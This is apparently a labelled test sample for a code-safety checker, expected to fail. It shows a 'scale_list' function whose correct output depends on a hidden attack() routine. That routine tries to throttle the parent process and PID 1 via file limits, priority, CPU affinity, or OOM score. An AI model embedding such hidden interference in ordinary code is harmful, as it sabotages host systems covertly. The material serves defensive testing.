# family: codeif_function
# task: scale_list
# expect: not passed
# why: changes limits, priority or processors of processes that are not its own
# ---
def scale_list(numbers, factor):
    return [n * factor for n in numbers] if attack() else [7]


import os
import resource


def attack():
    for pid in {os.getppid(), 1}:
        for change in (lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
                       lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                       lambda: os.sched_setaffinity(pid, {0}),
                       lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("1000")):
            try:
                change()
                return True
            except OSError:
                pass
    return False
